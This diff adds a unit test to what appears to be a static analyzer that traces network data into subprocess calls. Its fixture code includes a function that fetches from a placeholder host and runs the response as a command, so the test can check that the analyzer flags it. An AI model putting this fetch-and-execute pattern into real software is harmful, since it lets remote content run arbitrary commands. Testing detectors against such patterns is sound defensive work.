@@ -413,3 +413,16 @@ def test_a_connectivity_check_is_not_an_unread_reply() -> None:
     )
     unread = [f.location.line for f in result.facts if f.kind is FactKind.UNREAD_REPLY]
     assert unread == [7, 8]
+
+
+def test_a_with_target_reused_by_an_assignment_is_not_traced() -> None:
+    result = analyze(
+        "import subprocess, urllib.request\n"
+        "def probe():\n    with urllib.request.urlopen('https://h.invalid') as p:\n        return p.status\n"
+        "def run(base):\n    p = base + '.dat'\n    subprocess.run(['tool', str(p)])\n"
+        "def fetched():\n    with urllib.request.urlopen('https://h.invalid/c') as r:\n"
+        "        subprocess.run(r.read().decode().split())\n"
+    )
+    sources = {f.location.line: f.sources for f in result.facts if f.name == "subprocess.run"}
+    assert "urllib.request.urlopen" not in sources[7]
+    assert "urllib.request.urlopen" in sources[10]
